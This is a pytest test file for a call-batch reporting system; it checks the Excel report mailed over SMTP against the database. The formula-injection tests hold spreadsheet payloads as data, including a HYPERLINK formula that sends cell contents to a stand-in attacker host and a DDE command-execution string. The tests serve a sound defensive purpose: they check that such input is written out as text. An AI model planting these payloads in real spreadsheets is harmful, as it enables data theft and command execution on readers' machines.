"""The batch report through the outbox: a real SMTP server (aiosmtpd on 127.0.0.1) receives it,
the attachment is read back with openpyxl and compared with the database."""

from __future__ import annotations

import json
import statistics
import threading
from collections import Counter
from datetime import UTC, timedelta
from typing import Any

import pytest
from openpyxl.workbook import Workbook

from batchctl.report.key_columns import MAX_HEADER_CHARS
from batchctl.report.workbook import MAX_CONTEXT_COLUMNS
from clockwork import clock, pin
from report_helpers import (
    Attempt,
    attachment,
    batch_row,
    built_workbook,
    drive,
    header,
    open_workbook,
    report_row,
    run_outbox,
    set_report_due,
    summary_section,
    summary_value,
    table,
)
from smtp_sink import SmtpSink
from sqlapi import SqlApi, phones

NOW = {"report_delay_s": 0}
OPS = ["ops@example.com", "lead@example.com"]


def test_the_workbook_s_numbers_equal_batch_status_and_the_call_logs(
    db_url: str, api: SqlApi, sink: SmtpSink
) -> None:
    tenant = api.create_tenant("Acme", max_concurrent_calls=3)
    api.add_dnc(tenant, "+14155559999")
    leads = [
        *phones(6),
        {"to_phone": "+14155550000", "lead_name": "duplicate"},
        {"to_phone": "+14155559999", "lead_name": "on the do-not-call list"},
    ]
    options = {**NOW, "report_to": OPS, "retry_on": ["busy"], "max_attempts": 2,
               "retry_delay_s": 0}  # fmt: skip
    batch = api.create_batch(tenant, leads, options)
    script: dict[str, list[Attempt]] = {
        "+14155550000": [("ended", {"duration_seconds": 30, "summary": "booked a demo",
                                    "analysis": {"interest": "high", "score": 9}})],
        "+14155550001": [("busy", {}), ("ended", {"duration_seconds": 12.5,
                                                  "analysis": {"interest": "low"}})],
        "+14155550002": [("no_answer", {})],
        "+14155550003": [("failed", {"error": "SIP 503", "duration_seconds": 1})],
        "+14155550004": [("ended", {"duration_seconds": 95, "analysis": {"callback": True}})],
        "+14155550005": [("busy", {}), ("busy", {})],
    }  # fmt: skip
    made = drive(api, script)
    status = api.batch_status(tenant, batch)
    assert status["status"] == "completed"

    assert run_outbox(db_url, sink.settings()) is None
    (mail,) = sink.wait_for(1)
    assert mail.recipients == OPS and mail.sender == "reports@test"
    assert str(batch) in mail.message["Subject"] and "completed" in mail.message["Subject"]
    plain = mail.message.get_body(("plain",))
    assert plain is not None
    body = plain.get_content()
    assert "completed: 3 (50.0%)" in body and "Calls: 8, attempt 1: 6, attempt 2: 2" in body
    filename, data = attachment(mail)
    assert filename == f"batch-{batch}.xlsx"
    book = open_workbook(data)

    entries = section_counts(summary_section(book, "Entries by final status"))
    for key in ("completed", "declined", "failed", "cancelled", "queued", "running"):
        assert entries[key] == status[key], key
    assert entries["Total"] == status["total"] == 6
    assert entries["Duplicates (not dialled)"] == status["duplicates"] == 1
    assert entries["Do-not-call (skipped)"] == status["dnc_skipped"] == 1
    rates = summary_section(book, "Entries by final status")
    assert rates["completed"][1] == pytest.approx(3 / 6)

    db_entries = api.conn.execute(
        """select e.entry_index, e.to_phone, e.status::text, e.outcome::text, e.attempts,
                  c.duration_seconds, c.ended_at
             from batchctl.batch_entries e left join batchctl.call_logs c on c.id = e.call_log_id
            where e.batch_id = %s order by e.entry_index""",
        (batch,),
    ).fetchall()
    outcomes = Counter(e["outcome"] or "(never called)" for e in db_entries)
    assert section_counts(summary_section(book, "Entries by last call status")) == outcomes

    calls = api.conn.execute(
        """select c.attempt, c.status::text, c.duration_seconds, c.started_at, e.entry_index
             from batchctl.call_logs c join batchctl.batch_entries e on e.id = c.entry_id
            where c.batch_id = %s order by e.entry_index, c.attempt""",
        (batch,),
    ).fetchall()
    assert len(calls) == made == 8
    per_attempt = section_counts(summary_section(book, "Calls per attempt number"))
    assert per_attempt == {"Attempt 1": 6, "Attempt 2": 2, "Total calls": 8}
    durations = sorted(
        float(c["duration_seconds"]) for c in calls if c["duration_seconds"] is not None
    )
    figures = section_counts(summary_section(book, "Call duration (calls with a duration)"))
    assert figures["Median"] == pytest.approx(statistics.median(durations))
    p90 = statistics.quantiles(durations, n=10, method="inclusive")[8]  # = percentile_cont
    assert figures["90th percentile"] == pytest.approx(p90)
    assert figures["Total talk time"] == pytest.approx(sum(durations))
    assert summary_value(book, "Status") == "completed"
    assert summary_value(book, "Batch id") == str(batch)
    assert summary_value(book, "Tenant") == "Acme"
    assert len(book["Summary"]._charts) == 1

    columns = header(book, "Calls")
    # Analysis keys, most used first, then by name; the leads have no context: no columns.
    assert columns[columns.index("Summary") + 1 :] == ("interest", "callback", "score")
    rows = table(book, "Calls")
    assert [(r["Entry index"], r["Phone"], r["Final status"], r["Last call status"],
             r["Attempts"]) for r in rows] == [
        (e["entry_index"], e["to_phone"], e["status"], e["outcome"], e["attempts"])
        for e in db_entries
    ]  # fmt: skip
    assert [r["Duration (s)"] for r in rows] == [
        None if e["duration_seconds"] is None else float(e["duration_seconds"]) for e in db_entries
    ]
    first, second, _, failed, fifth, _ = rows
    assert (first["Summary"], first["interest"], first["score"]) == ("booked a demo", "high", 9)
    assert (second["interest"], second["callback"]) == ("low", None)
    assert fifth["callback"] is True
    assert failed["Last error"] == "SIP 503"
    ended = db_entries[0]["ended_at"].astimezone(UTC).replace(tzinfo=None)
    assert abs(first["Last call ended (UTC)"] - ended).total_seconds() < 0.001  # naive, UTC

    attempts = table(book, "Attempts")
    assert [(r["Entry index"], r["Attempt"], r["Call status"]) for r in attempts] == [
        (c["entry_index"], c["attempt"], c["status"]) for c in calls
    ]
    for sheet, rows_ in (("Calls", rows), ("Attempts", attempts)):
        ws = book[sheet]
        assert ws.freeze_panes == "A2"
        assert ws.auto_filter.ref == f"A1:{ws.cell(1, ws.max_column).column_letter}{len(rows_) + 1}"


def section_counts(section: dict[str, tuple[Any, ...]]) -> dict[str, Any]:
    return {label: values[0] for label, values in section.items()}


def test_each_finished_batch_is_mailed_once_even_with_two_senders(
    db_url: str, api: SqlApi, sink: SmtpSink
) -> None:
    sink.hold_s = 0.1  # the senders overlap while a message is in flight
    tenant = api.create_tenant(max_concurrent_calls=20)
    mailed = [api.create_batch(tenant, phones(2, 10 * i), {**NOW, "report_to": OPS})
              for i in range(4)]  # fmt: skip
    quiet = api.create_batch(tenant, phones(2, 100), NOW)
    drive(api, {})
    results: list[float | None] = []
    senders = [
        threading.Thread(target=lambda w=w: results.append(run_outbox(db_url, sink.settings(), w)))
        for w in ("daemon-1", "daemon-2")
    ]
    for t in senders:
        t.start()
    for t in senders:
        t.join()
    assert results == [None, None]
    received = sink.wait_for(4)
    subjects = sorted(next(str(b) for b in mailed if str(b) in r.message["Subject"])
                      for r in received)  # fmt: skip
    assert subjects == sorted(map(str, mailed))
    assert run_outbox(db_url, sink.settings()) is None
    assert len(sink.received) == 4
    rows = api.conn.execute("select batch_id, status::text as s from batchctl.reports").fetchall()
    expected = {**{b: "sent" for b in mailed}, quiet: "skipped"}
    assert {r["batch_id"]: r["s"] for r in rows} == expected


@pytest.mark.parametrize("outage", ["server down", "temporary failure"])
def test_a_failed_send_is_retried_and_never_touches_the_batch(
    db_url: str, api: SqlApi, sink: SmtpSink, outage: str
) -> None:
    tenant = api.create_tenant()
    batch = api.create_batch(tenant, phones(2), {**NOW, "report_to": OPS})
    drive(api, {})
    finished = batch_row(api, batch)
    assert finished["status"] == "completed" and finished["finished_at"] is not None
    if outage == "server down":
        sink.down()
        expected_error = "ConnectionRefusedError"
    else:
        sink.temporary_failures = 2
        expected_error = "SMTPDataError: (451, b'4.3.0 try again later')"

    wait = run_outbox(db_url, sink.settings())
    assert wait is not None and 55 < wait <= 60, "first retry after a minute"
    report = report_row(api, batch)
    assert (report["status"], report["attempts"]) == ("pending", 1)
    assert report["last_error"].startswith(expected_error)
    set_report_due(api, batch)
    wait = run_outbox(db_url, sink.settings())
    assert wait is not None and 115 < wait <= 120, "then after two"
    assert report_row(api, batch)["attempts"] == 2
    assert batch_row(api, batch) == finished, "a failing report never changes its batch"

    if outage == "server down":
        sink.up()
    set_report_due(api, batch)
    assert run_outbox(db_url, sink.settings()) is None
    assert len(sink.wait_for(1)) == 1
    report = report_row(api, batch)
    assert (report["status"], report["attempts"], report["last_error"]) == ("sent", 3, None)
    assert batch_row(api, batch) == finished


def test_a_refused_recipient_fails_the_report_after_five_attempts(
    db_url: str, api: SqlApi, sink: SmtpSink
) -> None:
    sink.refuse = {"nobody@example.com"}
    tenant = api.create_tenant()
    batch = api.create_batch(tenant, phones(1), {**NOW, "report_to": ["nobody@example.com"]})
    drive(api, {})
    finished = batch_row(api, batch)
    for attempt in range(1, 6):
        set_report_due(api, batch)
        wait = run_outbox(db_url, sink.settings())
        report = report_row(api, batch)
        assert report["attempts"] == attempt
        assert "SMTPRecipientsRefused" in report["last_error"]
        assert "nobody@example.com" in report["last_error"]
    assert (report["status"], wait) == ("failed", None), "given up: nothing pending"
    assert sink.received == []
    assert batch_row(api, batch) == finished


def test_a_message_some_recipients_accept_counts_as_sent(
    db_url: str, api: SqlApi, sink: SmtpSink
) -> None:
    sink.refuse = {"gone@example.com"}
    tenant = api.create_tenant()
    batch = api.create_batch(tenant, phones(1), {**NOW, "report_to": ["gone@example.com", *OPS]})
    drive(api, {})
    assert run_outbox(db_url, sink.settings()) is None
    (mail,) = sink.wait_for(1)
    assert mail.recipients == OPS, "a retry would send it to them twice"
    assert report_row(api, batch)["status"] == "sent"


def test_a_cancelled_batch_is_reported_once_its_last_live_call_ends(
    db_url: str, api: SqlApi, sink: SmtpSink
) -> None:
    tenant = api.create_tenant(max_concurrent_calls=2)
    batch = api.create_batch(tenant, phones(4), {**NOW, "report_to": OPS})
    first, second = api.dispatch_all()
    api.report(first, "ongoing")
    assert api.cancel_batch(tenant, batch, "campaign withdrawn") == 2
    api.finish_call(first, "ended", {"duration_seconds": 40})
    assert run_outbox(db_url, sink.settings()) is None
    assert api.batch_status(tenant, batch)["finished_at"] is None, "a call is still live"
    assert sink.received == []

    api.report(second, "no_answer")
    assert run_outbox(db_url, sink.settings()) is None
    (mail,) = sink.wait_for(1)
    assert "cancelled" in mail.message["Subject"]
    book = open_workbook(attachment(mail)[1])
    assert summary_value(book, "Cancel reason") == "campaign withdrawn"
    counts = section_counts(summary_section(book, "Entries by final status"))
    assert (counts["completed"], counts["declined"], counts["cancelled"]) == (1, 1, 2)
    assert [r["Final status"] for r in table(book, "Calls")] == [
        "completed", "declined", "cancelled", "cancelled"
    ]  # fmt: skip


@pytest.mark.parametrize(
    "broken",
    ["batchctl.report.build.read_summary", "batchctl.report.workbook.ReportWorkbook.add_entries"],
)
def test_a_builder_failure_fails_the_report_and_leaves_the_batch_alone(
    db_url: str, api: SqlApi, sink: SmtpSink, monkeypatch: pytest.MonkeyPatch, broken: str
) -> None:
    def bug(*args: Any, **kwargs: Any) -> None:
        raise RuntimeError("a bug in the builder")

    tenant = api.create_tenant()
    batch = api.create_batch(tenant, phones(2), {**NOW, "report_to": OPS})
    drive(api, {})
    finished = batch_row(api, batch)
    monkeypatch.setattr(broken, bug)
    assert run_outbox(db_url, sink.settings()) is not None
    report = report_row(api, batch)
    assert (report["status"], report["last_error"]) == (
        "pending", "RuntimeError: a bug in the builder"
    )  # fmt: skip
    assert sink.received == []
    assert batch_row(api, batch) == finished

    monkeypatch.undo()  # the bug fixed, the retry sends it
    set_report_due(api, batch)
    run_outbox(db_url, sink.settings())
    assert len(sink.wait_for(1)) == 1


HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "@SUM(1)", "+1", "-2",
           "\t=1+1", "\r=1", "#N/A", "=cmd|' /C calc'!A0"]  # fmt: skip


def test_hostile_lead_data_comes_out_as_text(db_url: str, api: SqlApi, sink: SmtpSink) -> None:
    tenant = api.create_tenant()
    leads: list[dict[str, Any]] = [
        {"to_phone": f"+1415555{i:04d}", "lead_name": text, "lead_id": text,
         "context": {"note": text}}
        for i, text in enumerate(HOSTILE)
    ]  # fmt: skip
    leads.append({"to_phone": "+14155550999", "lead_name": "bell \x07 and escape \x1b?"})
    api.create_batch(tenant, leads, {**NOW, "report_to": OPS, "wave_size": 50})
    script = {
        lead["to_phone"]: [("ended", {"summary": lead["lead_name"],
                                      "analysis": {"=1+1": lead["lead_name"]}})]
        for lead in leads[:-1]
    }  # fmt: skip
    drive(api, script)
    run_outbox(db_url, sink.settings())
    book = open_workbook(attachment(sink.wait_for(1)[0])[1])

    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type not in ("f", "e"), f"{ws.title}!{cell.coordinate}"
    calls = book["Calls"]
    header = [c.value for c in calls[1]]
    assert "=1+1" in header and calls.cell(1, header.index("=1+1") + 1).data_type == "s"
    for index, text in enumerate(HOSTILE):
        row = {h: c for h, c in zip(header, calls[index + 2], strict=True)}
        for column in ("Lead name", "Lead id", "Summary", "=1+1", "context.note"):
            cell = row[column]
            # XML reads a raw CR as LF: the cell is still that text, not a formula.
            assert (cell.value, cell.data_type) == (text.replace("\r", "\n"), "s"), column
            assert cell.quotePrefix == (text[0] in "=+-@\t\r" or text == "#N/A"), column
    assert table(book, "Calls")[-1]["Lead name"] == "bell \ufffd and escape \ufffd?"


@pytest.mark.filterwarnings("ignore:Requiring AUTH while not requiring TLS")
def test_login_when_a_user_is_configured(db_url: str, api: SqlApi) -> None:
    sink = SmtpSink(login=("reports", "s3cret"))
    sink.up()
    try:
        tenant = api.create_tenant()
        batch = api.create_batch(tenant, phones(1), {**NOW, "report_to": OPS})
        drive(api, {})
        run_outbox(db_url, sink.settings(user=None, password=None))
        assert report_row(api, batch)["last_error"].startswith("SMTPSenderRefused: (530")
        set_report_due(api, batch)
        run_outbox(db_url, sink.settings())
        assert sink.wait_for(1)[0].login == "reports"
    finally:
        sink.down()


# SIP 503 on a trunk: the carrier refused the call for capacity (sql/028 carrier_refused).
CARRIER_REFUSED = {"sip_status_code": 503, "error": "SIP 503 Service Unavailable"}


def test_each_call_shows_its_caller_id_and_trunk(db_url: str, api: SqlApi) -> None:
    tenant = api.create_tenant("Acme", max_concurrent_calls=5)
    trunk = api.create_trunk(tenant, "main", "ST_main", 100)
    api.add_caller_ids(tenant, trunk, ["+13055559999"])
    batch = api.create_batch(tenant, phones(2))
    script: dict[str, list[Attempt]] = {
        "+14155550000": [("failed", CARRIER_REFUSED), ("ended", {})]
    }
    assert drive(api, script) == 2  # then the trunk backs off: the refused lead waits
    pin(api.conn, clock(api.conn) + timedelta(minutes=1))  # past the back-off
    assert drive(api, script) == 1
    plain = api.create_tenant("Plain")  # no trunks: calls go out without either
    plain_batch = api.create_batch(plain, phones(1, 10))
    assert drive(api, {}) == 1

    book = built_workbook(db_url, batch)
    attempts = [(r["Entry index"], r["Attempt"], r["Call status"], r["Caller ID"], r["Trunk"])
                for r in table(book, "Attempts")]  # fmt: skip
    assert attempts == [
        (0, 1, "failed", "+13055559999", "main"),
        (0, 2, "ended", "+13055559999", "main"),
        (1, 1, "ended", "+13055559999", "main"),
    ]
    calls = [(r["Entry index"], r["Caller ID"], r["Carrier refusals"])
             for r in table(book, "Calls")]  # fmt: skip
    assert calls == [(0, "+13055559999", 1), (1, "+13055559999", 0)]
    # Text like the phone numbers, never a formula: a caller ID starts with "+".
    ws = book["Attempts"]
    caller_id = ws.cell(2, header(book, "Attempts").index("Caller ID") + 1)
    assert (caller_id.data_type, caller_id.quotePrefix) == ("s", True)

    book = built_workbook(db_url, plain_batch)
    ((call,), (entry,)) = table(book, "Attempts"), table(book, "Calls")
    assert (call["Caller ID"], call["Trunk"]) == (None, None)
    assert (entry["Caller ID"], entry["Carrier refusals"]) == (None, 0)


# --- the leads' context as columns ---------------------------------------------------------------


def lead(i: int, context: dict[str, Any] | None = None) -> dict[str, Any]:
    entry: dict[str, Any] = {"to_phone": f"+1415555{i:04d}", "lead_name": f"Lead {i}"}
    if context is not None:
        entry["context"] = context
    return entry


def calls_columns(book: Workbook) -> tuple[Any, ...]:
    """The Calls sheet's headers after the fixed columns."""
    columns = header(book, "Calls")
    return columns[columns.index("Summary") + 1 :]


def test_each_context_key_is_a_column_of_its_leads_values(db_url: str, api: SqlApi) -> None:
    tenant = api.create_tenant()
    batch = api.create_batch(tenant, [
        lead(0, {"plan": "pro", "city": "Berlin", "seats": 12}),
        lead(1, {"plan": "basic", "vip": True, "score": 4.5, "tags": ["a", "b"],
                 "address": {"zip": "10115", "city": "Berlin"}}),
        lead(2),
        lead(3, {"plan": "team", "city": "Paris", "note": "0042", "crm_id": 12345678901234567890,
                 "seats": None}),
    ])  # fmt: skip
    book = built_workbook(db_url, batch)

    # Most used first (plan: 3 leads; city and seats, even null: 2), then by name; nothing is
    # left for a last column.
    keys = ["plan", "city", "seats", "address", "crm_id", "note", "score", "tags", "vip"]
    assert calls_columns(book) == tuple(f"context.{k}" for k in keys)
    rows = [{k: row[f"context.{k}"] for k in keys} for row in table(book, "Calls")]
    assert [r["Lead name"] for r in table(book, "Calls")] == [f"Lead {i}" for i in range(4)]
    none = dict.fromkeys(keys)
    assert rows[0] == {**none, "plan": "pro", "city": "Berlin", "seats": 12}
    # Nested values are their JSON text.
    assert rows[1] == {**none, "plan": "basic", "vip": True, "score": 4.5, "tags": '["a", "b"]',
                       "address": '{"city": "Berlin", "zip": "10115"}'}  # fmt: skip
    assert rows[2] == none, "a lead without a context: empty cells"
    # A whole number longer than Excel keeps exactly is its text; a JSON null an empty cell.
    assert rows[3] == {**none, "plan": "team", "city": "Paris", "note": "0042",
                       "crm_id": "12345678901234567890"}  # fmt: skip

    ws = book["Calls"]
    at = {h: i + 1 for i, h in enumerate(header(book, "Calls"))}
    kinds = {k: ws.cell(2, at[f"context.{k}"]).data_type for k in ("plan", "seats")}
    kinds |= {k: ws.cell(3, at[f"context.{k}"]).data_type for k in ("vip", "score", "tags")}
    kinds["note"] = ws.cell(5, at["context.note"]).data_type
    assert kinds == {"plan": "s", "seats": "n", "vip": "b", "score": "n", "tags": "s",
                     "note": "s"}  # fmt: skip
    assert ws.auto_filter.ref == f"A1:{ws.cell(1, ws.max_column).column_letter}5"


def test_context_keys_beyond_the_limit_go_to_a_json_column(db_url: str, api: SqlApi) -> None:
    tenant = api.create_tenant()
    many = {f"k{i:02d}": i for i in range(35)}
    batch = api.create_batch(tenant, [
        lead(0, many),
        lead(1, {**{f"k{i:02d}": -i for i in range(5)}, "zz": "only here"}),
        lead(2, {"k00": "just one"}),
    ])  # fmt: skip
    book = built_workbook(db_url, batch)

    # k00..k04 are used by three or two leads, the rest by one: by name after them.
    shown = [f"k{i:02d}" for i in range(MAX_CONTEXT_COLUMNS)]
    assert calls_columns(book) == (*(f"context.{k}" for k in shown), "Context (JSON)")
    first, second, third = table(book, "Calls")
    assert [first[f"context.{k}"] for k in shown] == list(range(MAX_CONTEXT_COLUMNS))
    assert json.loads(first["Context (JSON)"]) == {f"k{i}": i for i in range(30, 35)}
    assert [second[f"context.k{i:02d}"] for i in range(6)] == [0, -1, -2, -3, -4, None]
    assert json.loads(second["Context (JSON)"]) == {"zz": "only here"}
    assert third["context.k00"] == "just one"
    assert third["Context (JSON)"] is None, "nothing left over"


def test_a_formula_like_context_key_or_value_is_text(db_url: str, api: SqlApi) -> None:
    tenant = api.create_tenant()
    hostile = "=cmd|' /C calc'!A0"
    batch = api.create_batch(tenant, [lead(0, {"=cmd": hostile, "@SUM(1)": "-1"})])
    drive(api, {"+14155550000": [("ended", {"analysis": {"=cmd": "+1"}})]})
    book = built_workbook(db_url, batch)

    assert calls_columns(book) == ("=cmd", "context.=cmd", "context.@SUM(1)")
    ws = book["Calls"]
    for row in ws.iter_rows():
        for cell in row:
            assert cell.data_type not in ("f", "e"), cell.coordinate
    at = {h: i + 1 for i, h in enumerate(header(book, "Calls"))}
    for column, value in (("=cmd", "+1"), ("context.=cmd", hostile), ("context.@SUM(1)", "-1")):
        heading, cell = ws.cell(1, at[column]), ws.cell(2, at[column])
        assert (heading.value, heading.data_type) == (column, "s")
        assert (cell.value, cell.data_type, cell.quotePrefix) == (value, "s", True), column


def test_context_headers_never_collide_with_analysis_or_fixed_headers(
    db_url: str, api: SqlApi
) -> None:
    tenant = api.create_tenant()
    batch = api.create_batch(tenant, [
        lead(0, {"plan": "pro", "Plan": "legacy"}),
        lead(1, {"plan": "basic"}),
    ])  # fmt: skip
    drive(api, {
        "+14155550000": [("ended", {"analysis": {"plan": "upsell", "context.plan": "a0",
                                                 "Phone": "mobile"}})],
        "+14155550001": [("ended", {"analysis": {"plan": "renew", "context.plan": "a1"}})],
    })  # fmt: skip
    book = built_workbook(db_url, batch)

    # Analysis keys keep their names (the columns of earlier reports); a header equal to an
    # earlier one, ignoring case, gets a number.
    assert calls_columns(book) == (
        "context.plan", "plan", "Phone (2)", "context.plan (2)", "context.Plan (3)"
    )  # fmt: skip
    columns = header(book, "Calls")
    assert len({c.casefold() for c in columns}) == len(columns)
    first, second = table(book, "Calls")
    assert (first["Phone"], first["Phone (2)"]) == ("+14155550000", "mobile")
    assert [(r["plan"], r["context.plan"], r["context.plan (2)"], r["context.Plan (3)"])
            for r in (first, second)] == [("upsell", "a0", "pro", "legacy"),
                                          ("renew", "a1", "basic", None)]  # fmt: skip


def test_long_and_odd_context_keys_get_a_cut_one_line_header(db_url: str, api: SqlApi) -> None:
    tenant = api.create_tenant()
    long = "x" * 200
    context = {long: 1, long[:-1] + "y": 2, "line\nbreak": 3, "": 4, "tab\there": 5}
    batch = api.create_batch(tenant, [lead(0, context)])
    book = built_workbook(db_url, batch)

    cut = "context." + "x" * (MAX_HEADER_CHARS - len("context.") - 1) + "\u2026"
    assert len(cut) == MAX_HEADER_CHARS
    assert calls_columns(book) == (
        "context.(empty)", "context.line\ufffdbreak", "context.tab\ufffdhere", cut, f"{cut} (2)"
    )  # fmt: skip
    (row,) = table(book, "Calls")
    assert [row[c] for c in calls_columns(book)] == [4, 3, 5, 1, 2]


# A number int() refuses (more than 4,300 digits): Python cannot decode a context holding it.
LONG_NUMBER = '{"n": ' + "7" * 5000 + "}"


def test_a_context_python_cannot_decode_is_shown_whole_in_the_last_column(
    db_url: str, api: SqlApi
) -> None:
    tenant = api.create_tenant()
    batch = api.create_batch(tenant, [lead(0, {"n": 5}), lead(1, {"m": "x"})])
    # Written straight into the table: Python can neither write nor read such a number.
    api.conn.execute(
        "update batchctl.batch_entries set context = %s::jsonb"
        " where batch_id = %s and entry_index = 1",
        (LONG_NUMBER, batch),
    )
    book = built_workbook(db_url, batch)

    # Only one key: the last column is there for the context that cannot be split.
    assert calls_columns(book) == ("context.n", "Context (JSON)")
    first, second = table(book, "Calls")
    assert (first["context.n"], first["Context (JSON)"]) == (5, None)
    assert (second["context.n"], second["Context (JSON)"]) == (None, LONG_NUMBER)
